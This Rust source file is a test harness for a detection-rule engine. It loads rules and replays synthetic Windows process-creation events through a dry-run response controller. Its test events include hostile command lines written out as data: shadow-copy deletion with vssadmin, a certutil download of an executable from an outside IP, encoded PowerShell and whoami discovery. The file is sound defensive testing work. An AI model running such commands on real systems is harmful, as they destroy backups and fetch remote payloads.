//! Rule Validation Harness
//!
//! Loads a rule directory, reports what loaded and what failed, then replays a
//! set of synthetic process-creation events through the engine and a dry-run
//! response controller.
//!
//! Usage: validate_rules [RULES_DIR]

use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Instant;

use vigil::alerts::Notifier;
use vigil::engine::Engine;
use vigil::models::{AlertNotice, EventRecord};
use vigil::response::{ProcessControl, ResponseController, ResponsePolicy};
use vigil::state::ThreatSummarySlot;

const DEFAULT_RULES_DIR: &str = "rules";

/// Reports success for every request without touching any process
struct DryRunControl;

impl ProcessControl for DryRunControl {
    fn suspend(&self, _pid: u32) -> bool {
        true
    }

    fn terminate(&self, _pid: u32) -> bool {
        true
    }
}

struct SilentNotifier;

impl Notifier for SilentNotifier {
    fn alert(&self, _notice: &AlertNotice) {}
    fn live_event(&self, _event: &EventRecord) {}
}

fn main() {
    let rules_dir = std::env::args()
        .nth(1)
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(DEFAULT_RULES_DIR));

    println!("═══════════════════════════════════════════════════");
    println!("Phase 1: Rule Loading");
    println!("═══════════════════════════════════════════════════");
    let Some(engine) = load_rules(&rules_dir) else {
        std::process::exit(1);
    };
    println!();

    println!("═══════════════════════════════════════════════════");
    println!("Phase 2: Synthetic Event Replay");
    println!("═══════════════════════════════════════════════════");
    let detected = replay_synthetic_events(&engine);
    println!();

    let stats = engine.stats();
    let total = stats.total_rules + stats.failed_rules.len();
    println!("Summary:");
    println!("  Rule files:      {}", total);
    println!("  ✓ Loaded:        {}", stats.total_rules);
    println!("  ✗ Failed:        {}", stats.failed_rules.len());
    println!("  Events matched:  {}", detected);

    if !stats.failed_rules.is_empty() {
        std::process::exit(2);
    }
}

fn load_rules(rules_dir: &Path) -> Option<Engine> {
    if !rules_dir.exists() {
        println!("❌ Rules directory not found: {}", rules_dir.display());
        return None;
    }
    println!("Loading rules from: {}", rules_dir.display());

    let start = Instant::now();
    let engine = match Engine::from_dir(rules_dir) {
        Ok(engine) => engine,
        Err(e) => {
            println!("❌ Failed to load rules: {:#}", e);
            return None;
        }
    };
    let stats = engine.stats();

    println!("✓ Rule loading completed in {:.2?}", start.elapsed());
    println!("  Loaded: {}  Failed: {}", stats.total_rules, stats.failed_rules.len());

    if !stats.rules_by_level.is_empty() {
        println!("Breakdown by level:");
        for (level, count) in &stats.rules_by_level {
            println!("  {:12} {:>5} rules", level, count);
        }
    }

    if !stats.failed_rules.is_empty() {
        println!("Failed rules (first 10):");
        for (path, error) in stats.failed_rules.iter().take(10) {
            let filename = Path::new(path)
                .file_name()
                .and_then(|n| n.to_str())
                .unwrap_or(path);
            println!("  ✗ {}", filename);
            println!("    Error: {}", error.lines().next().unwrap_or(error));
        }
        if stats.failed_rules.len() > 10 {
            println!("  ... and {} more", stats.failed_rules.len() - 10);
        }
    }

    Some(engine)
}

fn replay_synthetic_events(engine: &Engine) -> usize {
    let controller = ResponseController::new(
        Arc::new(DryRunControl),
        Arc::new(SilentNotifier),
        Arc::new(ThreatSummarySlot::new()),
    );
    let policy = ResponsePolicy::new(true, true, true);

    let mut detected = 0;
    for (idx, (name, event)) in synthetic_events().iter().enumerate() {
        let matches = engine.evaluate(event);
        if matches.is_empty() {
            println!("  {}. {:40} no match", idx + 1, name);
            continue;
        }
        detected += 1;

        let decision = controller.decide(event, &matches, &policy);
        println!("  {}. {:40} {} match(es)", idx + 1, name, matches.len());
        for outcome in &decision.outcomes {
            println!(
                "       - {} [{}] -> {}",
                outcome.matched.title, outcome.matched.level, outcome.action_taken
            );
        }
        if let Some(summary) = &decision.summary {
            println!("       summary: {} ({})", summary.name, summary.action_taken);
        }
    }
    detected
}

fn process_event(pid: &str, image: &str, command_line: &str) -> EventRecord {
    EventRecord::new()
        .with("EventID", "1")
        .with("TimeCreated", "2025-01-31T00:00:00Z")
        .with("ProcessId", pid)
        .with("Image", image)
        .with("CommandLine", command_line)
        .with("User", "TESTHOST\\tester")
        .with("ParentImage", "C:\\Windows\\explorer.exe")
}

fn synthetic_events() -> Vec<(&'static str, EventRecord)> {
    vec![
        (
            "Encoded PowerShell",
            process_event(
                "4242",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -NoP -enc ZQBjAGgAbwAgAGgAaQA=",
            ),
        ),
        (
            "Discovery - whoami",
            process_event("1234", "C:\\Windows\\System32\\whoami.exe", "whoami /all"),
        ),
        (
            "Shadow copy deletion",
            process_event(
                "2222",
                "C:\\Windows\\System32\\vssadmin.exe",
                "vssadmin.exe delete shadows /all /quiet",
            ),
        ),
        (
            "Certutil download",
            process_event(
                "3333",
                "C:\\Windows\\System32\\certutil.exe",
                "certutil.exe -urlcache -split -f http://203.0.113.5/a.exe a.exe",
            ),
        ),
        (
            "Benign - notepad",
            process_event("5555", "C:\\Windows\\notepad.exe", "notepad.exe C:\\notes.txt"),
        ),
    ]
}
